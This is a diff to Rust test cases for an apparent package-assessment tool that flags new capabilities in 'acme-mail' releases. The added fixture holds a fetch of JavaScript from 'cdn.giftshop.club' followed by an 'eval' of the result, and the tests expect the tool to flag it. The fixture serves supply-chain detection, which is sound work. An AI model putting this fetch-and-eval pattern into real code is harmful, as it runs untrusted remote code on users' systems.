@@ -1,6 +1,6 @@
 //! Cases of `new-capability`.
 
-use crate::support::{Case, baseline, code, fact, first, mail, release, update, with_history};
+use crate::support::{Case, baseline, code, fact, first, lately, mail, release, update, with_history};
 use stockade_assess::facts::{Class, Fact};
 
 fn minor(facts: &[Fact]) -> stockade_assess::Subject {
@@ -8,6 +8,13 @@ fn minor(facts: &[Fact]) -> stockade_assess::Subject {
     subject.package.version = Some("1.1.0".into());
     subject.facts = code(facts).into();
     subject
+}
+
+fn fetched() -> [Fact; 2] {
+    [
+        fact(Class::Host, "cdn.giftshop.club", 9).reading("const r = await fetch(\"https://cdn.giftshop.club/x.js\");"),
+        fact(Class::DynamicCode, "eval", 10).reading("eval(await r.text());"),
+    ]
 }
 
 pub(crate) fn cases() -> Vec<Case> {
@@ -47,6 +54,21 @@ pub(crate) fn cases() -> Vec<Case> {
             &["show/info/high `acme-mail@1.0.16` does more often what 1.0.15 did before: `exec`"],
         ),
         Case::new("nothing to compare with", &first("acme-mail", &[exec()]), &[]),
+        Case::new(
+            "fetched and run, in a minor release",
+            &minor(&fetched()),
+            &["hold/medium/high `acme-mail@1.1.0` can do what 1.0.15 could not: `eval`"],
+        ),
+        Case::new(
+            "fetched and run, one more release after it",
+            &lately("acme-mail", &fetched()),
+            &["hold/medium/high `acme-mail@1.0.16` can do what 1.0.14 could not: `eval`"],
+        ),
+        Case::new(
+            "fetched and run, at first sight",
+            &first("acme-mail", &fetched()),
+            &["show/medium/high `acme-mail@1.0.16` fetches text and runs it"],
+        ),
         Case::new("nothing new", &mail(), &[]),
     ]
 }
